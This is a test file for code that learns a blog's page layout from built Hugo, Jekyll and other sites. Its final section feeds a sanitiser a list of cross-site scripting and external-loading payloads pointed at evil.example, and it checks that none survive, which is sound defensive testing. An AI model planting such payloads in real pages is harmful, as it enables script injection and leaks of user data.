import { describe, expect, test } from 'vitest'
import { seekBody } from '#shared/site/page-frame/find-body'
import { type LearnedFrame, learnFrame } from '#shared/site/page-frame/learn-frame'
import { type MatchedPage, matchPage } from '#shared/site/page-frame/match-page'
import { type BuiltSite, readKnownPost, readPage } from '../../../helpers/built-sites'

function matched(site: BuiltSite, post: string, page: string): MatchedPage {
  const found = matchPage(readPage(site, page), readKnownPost(site, post))
  if (found === null) throw new Error(`${post} is not on ${page}`)
  return found
}

const engblog = (name: string) => matched('engblog', `src/posts/${name}.md`, `output/posts/${name}.htm`)
const hugo = (name: string) => matched('hugo', `content/posts/${name}.md`, `public/posts/${name}/index.html`)
const hugoPlace = { path: 'posts/fog-signals/index.html', origins: ['https://lantern.example'] }
const descaling = () =>
  matched('jekyll', '_posts/2022-03-05-descaling.md', '_site/water/2022/03/05/descaling.html')

/** The markup from one class name to a text, without white space between elements. */
function part(frame: LearnedFrame, from: string, to: string): string {
  const at = frame.markup.indexOf(from)
  expect(at).toBeGreaterThanOrEqual(0)
  const end = frame.markup.indexOf(to, at)
  return frame.markup.slice(at, end).replace(/\s+/g, ' ')
}

describe('the frame of a page', () => {
  test('has places for title, author, date and body, and keeps the rest', () => {
    const place = { path: 'posts/goliath.htm', origins: [] }
    const frame = learnFrame(engblog('goliath'), [engblog('original-serverless')], { isOwn: true, place })
    expect(part(frame, '<article', '</main>')).toBe(
      [
        '<article class="post"> <h1 class="title"> <a href="/posts/goliath.htm"><galley-slot data-galley="title"></galley-slot></a> </h1>',
        '<div class="info"> <img class="inline-author-photo" src="galley-site:/images/author-icons/kevindangoor.jpg" aria-hidden="true" role="presentation" data-galley-of="author">',
        '<span class="sr-only">by</span> <a class="author-link" href="http://blueskyonmars.com/"><galley-slot data-galley="author">Kevin Dangoor</galley-slot></a>',
        'on <galley-slot data-galley="date">Dec 20, 2019</galley-slot> </div> <div class="body" data-galley="body"></div> </article>',
        part(frame, '<div class="keep-reading-buttons">', '</main>'),
      ].join(' '),
    )
    expect(frame.markup).toContain('previous post')
    expect(frame.markup).toContain('Our Transition to React Native')
    expect(frame.pageTitle).toEqual({ before: '', after: ' | Khan Academy Engineering' })
    expect(frame.dateStyle).toEqual({ kind: 'pattern', pattern: 'MMM D, YYYY' })
    expect(frame.author).toBe('Kevin Dangoor')
  })

  test('for another post leaves out what only its own post has', () => {
    const place = { path: 'posts/goliath.htm', origins: [] }
    const frame = learnFrame(engblog('goliath'), [engblog('original-serverless')], { isOwn: false, place })
    expect(frame.markup).not.toContain('previous post')
    expect(frame.markup).toContain('Our Transition to React Native')
    expect(frame.markup).toContain('Go + Services = One Goliath Project')
  })

  test('is learnt from one page alone', () => {
    const place = { path: 'posts/goliath.htm', origins: [] }
    const frame = learnFrame(engblog('goliath'), [], { isOwn: false, place })
    expect(frame.markup.match(/data-galley="\w+"/g)).toHaveLength(4)
    expect(frame.markup).not.toContain('previous post')
    expect(frame.dateStyle).toEqual({ kind: 'pattern', pattern: 'MMM D, YYYY' })
  })

  test('has places for crumbs, subtitle, picture and tags as well', () => {
    const others = [hugo('mending-lamps'), hugo('harbour-lights')]
    const frame = learnFrame(hugo('fog-signals'), others, { isOwn: false, place: hugoPlace })
    expect(part(frame, '<article', '</article>')).toBe(
      [
        '<article class="note"> <nav class="crumbs"><a href="/">Home</a> / <a href="/notes/posts/">Notes</a> / <span><galley-slot data-galley="title"></galley-slot></span></nav>',
        '<img class="cover" src="galley-site:/notes/images/harbour.png" alt="Fog" data-galley="image">',
        '<header><h1 class="note-title"><galley-slot data-galley="title"></galley-slot></h1>',
        '<p class="subtitle"><galley-slot data-galley="text:subtitle"></galley-slot></p>',
        '<p class="meta">Written by <galley-slot data-galley="author">Ada Quill</galley-slot> on <time><galley-slot data-galley="date">Thursday, 18 January 2024</galley-slot></time></p>',
        '<ul class="tags"><li data-galley-list="tags" data-galley-separator=" "><a href="/notes/tags/harbour/">#<galley-slot data-galley="item">harbour</galley-slot></a></li></ul></header>',
        '<div class="note-body" data-galley="body"></div> ',
      ].join(' '),
    )
    expect(frame.dateStyle).toEqual({ kind: 'pattern', pattern: 'dddd, D MMMM YYYY' })
  })

  test('loads the site’s own style sheets and pictures, by the base path and the site’s own address', () => {
    const frame = learnFrame(hugo('fog-signals'), [], { isOwn: true, place: hugoPlace })
    expect(frame.styles).toEqual([
      { kind: 'sheet', address: 'galley-site:/notes/css/main.css', media: '' },
      {
        kind: 'text',
        css: '.masthead { background: #20394d url("galley-site:/notes/images/wave.svg") repeat-x bottom; }',
        media: '',
      },
    ])
    expect(frame.htmlAttributes).toEqual({ lang: 'en-gb', class: 'no-js', 'data-theme': 'dusk' })
    expect(frame.bodyAttributes).toEqual({ class: 'layout-page' })
  })

  test('puts the body among the layout’s own elements where they stand side by side', () => {
    const place = { path: 'water/2022/03/05/descaling.html', origins: [] }
    const frame = learnFrame(descaling(), [], { isOwn: false, place })
    expect(part(frame, '<article', '</article>')).toBe(
      [
        '<article class="post"> <h2><galley-slot data-galley="title"></galley-slot></h2>',
        '<p class="when"><galley-slot data-galley="date">03/05/2022</galley-slot>, <galley-slot data-galley="author">Dora Spout</galley-slot>, filed under <galley-slot data-galley="list:categories">water</galley-slot></p>',
        '<div data-galley="body"></div>  ',
      ]
        .join(' ')
        .replace('  ', ' '),
    )
    expect(frame.dateStyle).toEqual({ kind: 'pattern', pattern: 'MM/DD/YYYY' })
  })
})

describe('a hostile page', () => {
  const body = '<p>The only words of this post that anybody knows.</p>'
  const frameOf = (page: string): LearnedFrame => {
    const post = { path: 'a.md', title: 'Some title', values: { title: 'Some title' }, body: seekBody(body) }
    const found = matchPage(page, post)
    if (found === null) throw new Error('the post is not on the page')
    return learnFrame(found, [], { isOwn: true, place: { path: 'a.html', origins: [] } })
  }
  const payloads = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name=q autofocus onfocus=alert(1)><button formaction="https://evil.example/">Go</button></form>',
    '<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a><a href="java&#10;script:alert(1)">x</a>',
    '<svg onload=alert(1)><script>alert(1)</script><image href="https://evil.example/x.png"/><use href="https://evil.example/#a"/><foreignObject><body onload=alert(1)></foreignObject></svg>',
    '<svg><rect fill="url(https://evil.example/a.svg#b)"/><set attributeName=href to="javascript:alert(1)"/></svg>',
    '<img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x"><picture><source srcset="https://evil.example/c.png"></picture>',
    '<p style="background:url(https://evil.example/a)">x</p><p style="background:u\\72l(https://evil.example/a)">x</p>',
    '<template shadowrootmode=open><img src=https://evil.example/></template><noscript><img src=https://evil.example/></noscript>',
    '<object data="https://evil.example/"></object><embed src="https://evil.example/"><video src="https://evil.example/" autoplay></video>',
    '<link rel="stylesheet" href="https://evil.example/a.css"><link rel="prefetch" href="https://evil.example/">',
    '<style>@import "https://evil.example/a.css"; input[value^=a]{background:url(//evil.example/a)}</style>',
    '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
    '<galley-slot data-galley="body"></galley-slot><div data-galley-list="tags"></div>',
    '<body background="https://evil.example/a.png" onload="alert(1)">',
  ]

  test.each(payloads)('runs and loads nothing: %s', (payload) => {
    const frame = frameOf(
      `<title>Some title</title><div><h1>Some title</h1>${payload}</div><main>${body}</main>`,
    )
    const all = JSON.stringify(frame)
    expect(all).not.toContain('evil.example')
    expect(frame.markup).not.toMatch(/alert\(1\)|on(?:error|load|focus)\b/)
    expect(frame.bodyAttributes).toEqual({})
    expect(frame.markup.match(/data-galley="body"/g)).toHaveLength(1)
    expect(all).not.toContain('data-galley-list')
  })
})
